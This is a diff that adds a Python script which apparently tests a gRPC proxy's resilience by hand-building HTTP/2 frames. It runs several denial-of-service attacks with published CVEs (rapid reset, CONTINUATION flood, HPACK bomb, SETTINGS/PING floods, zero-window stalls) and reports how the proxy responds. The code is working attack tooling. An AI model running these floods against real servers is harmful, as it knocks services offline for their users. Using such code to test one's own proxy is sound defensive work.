@@ -1,0 +1,160 @@
+#!/usr/bin/python3
+"""HTTP/2 attacks with CVEs behind them, from raw frames: what the proxy answers each with.
+
+h2_attack.py HOST PORT ATTACK   prints one JSON object: goaway (its code, or null), resets (RST_STREAM
+frames received), heads (HEADERS frames received), closed (the proxy closed the connection), sent (frames sent), seconds.
+
+rapid-reset     HEADERS then RST_STREAM, thousands of times (CVE-2023-44487)
+continuation    HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316)
+hpack-bomb      one 4 KB header entry, then a block referring to it again and again (a few bytes
+                each, megabytes decoded)
+settings-flood  SETTINGS frames, the acks never read (CVE-2019-9515)
+ping-flood      PING frames, the acks never read (CVE-2019-9512)
+zero-window     16 server-streaming calls (5 MB each) with a window of 0, never opened (CVE-2019-9517 style):
+                holds them open for a while and reports, the proxy's memory is the test's to measure
+"""
+import json
+import socket
+import struct
+import sys
+import time
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def frame(t, flags, sid, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload
+
+
+def lit(n, v):
+    """A literal field without indexing, new name (lengths below 127)."""
+    n, v = n.encode(), v.encode()
+    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
+
+
+def request_block(path="/pillion.test.Echo/Unary", authority="svc"):
+    return (lit(":method", "POST") + lit(":scheme", "http") + lit(":authority", authority) + lit(":path", path)
+            + lit("content-type", "application/grpc") + lit("te", "trailers"))
+
+
+class Conn:
+    def __init__(self, host, port):
+        self.s = socket.create_connection((host, port), timeout=30)
+        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.buf = b""
+        self.goaway = None
+        self.resets = 0
+        self.heads = 0
+        self.closed = False
+        self.sent = 0
+
+    def send(self, data, frames=1):
+        try:
+            self.s.sendall(data)
+            self.sent += frames
+            return True
+        except OSError:
+            self.closed = True
+            return False
+
+    def read(self, wait):
+        """Reads what comes within wait seconds (or until the proxy closes)."""
+        end = time.monotonic() + wait
+        while not self.closed:
+            left = end - time.monotonic()
+            if left <= 0:
+                break
+            self.s.settimeout(left)
+            try:
+                d = self.s.recv(65536)
+            except socket.timeout:
+                break
+            except OSError:
+                self.closed = True
+                break
+            if not d:
+                self.closed = True
+                break
+            self.buf += d
+            while len(self.buf) >= 9:
+                n = int.from_bytes(self.buf[:3], "big")
+                if len(self.buf) < 9 + n:
+                    break
+                t, payload = self.buf[3], self.buf[9:9 + n]
+                self.buf = self.buf[9 + n:]
+                if t == 7 and len(payload) >= 8:
+                    self.goaway = struct.unpack(">I", payload[4:8])[0]
+                elif t == 3:
+                    self.resets += 1
+                elif t == 1:
+                    self.heads += 1
+
+    def result(self, t0):
+        return {"goaway": self.goaway, "resets": self.resets, "heads": self.heads, "closed": self.closed, "sent": self.sent,
+                "seconds": round(time.monotonic() - t0, 2)}
+
+
+def main():
+    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+    c = Conn(host, port)
+    t0 = time.monotonic()
+    c.send(PREFACE + frame(4, 0, 0), 1)
+    if attack == "rapid-reset":
+        block = request_block()
+        sid = 1
+        # In batches, as the attack's clients do: each batch one write.
+        for _ in range(100):
+            batch = b"".join(frame(1, 4, s, block) + frame(3, 0, s, struct.pack(">I", 8))
+                             for s in range(sid, sid + 200, 2))
+            sid += 200
+            if not c.send(batch, 200):
+                break
+            c.read(0.01)
+            if c.goaway is not None or c.closed:
+                break
+        c.read(5)
+    elif attack == "continuation":
+        block = request_block()
+        c.send(frame(1, 0, 1, block[:10]))
+        for i in range(10000):
+            if not c.send(frame(9, 0, 1, lit("x-pad-%d" % i, "y" * 50))):
+                break
+            if i % 100 == 0:
+                c.read(0.01)
+                if c.goaway is not None or c.closed:
+                    break
+        c.read(5)
+    elif attack == "hpack-bomb":
+        # Literal with incremental indexing (0x40), 4,000 bytes: the dynamic table's one entry (62).
+        big = b"\x40" + bytes([7]) + b"x-bombb" + b"\x7f" + bytes([4000 - 127 & 0x7f | 0x80, (4000 - 127) >> 7]) + b"z" * 4000
+        block = request_block() + big + b"\xbe" * 3000   # 0x80 | 62, 3,000 times: 12 MB decoded
+        c.send(frame(1, 5, 1, block[:16000]) if len(block) <= 16000 else frame(1, 1, 1, block[:16000]) +
+               frame(9, 4, 1, block[16000:]))
+        c.read(5)
+        # The connection still serves a well-formed request after the stream was refused.
+        c.send(frame(1, 4, 3, request_block()) + frame(0, 1, 3, b"\0\0\0\0\1x"))
+        c.read(5)
+    elif attack in ("settings-flood", "ping-flood"):
+        f = frame(4, 0, 0, struct.pack(">HI", 4, 65535)) if attack == "settings-flood" else frame(6, 0, 0, b"12345678")
+        # The acks are never read: the socket's buffers fill, and the proxy must stop queueing.
+        c.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        c.s.settimeout(5)
+        for _ in range(200):
+            if not c.send(f * 1000, 1000):
+                break
+        c.read(5)
+    elif attack == "zero-window":
+        # SETTINGS_INITIAL_WINDOW_SIZE 0: no DATA may come until a WINDOW_UPDATE, which never does.
+        c.send(frame(4, 0, 0, struct.pack(">HI", 4, 0)))
+        body = b"\0\0\0\0\x0280"
+        for i in range(16):
+            sid = 1 + 2 * i
+            c.send(frame(1, 4, sid, request_block("/pillion.test.Echo/Big")) + frame(0, 1, sid, body))
+        c.read(float(sys.argv[4]) if len(sys.argv) > 4 else 3)
+    else:
+        sys.exit("unknown attack " + attack)
+    print(json.dumps(c.result(t0), sort_keys=True))
+
+
+if __name__ == "__main__":
+    main()
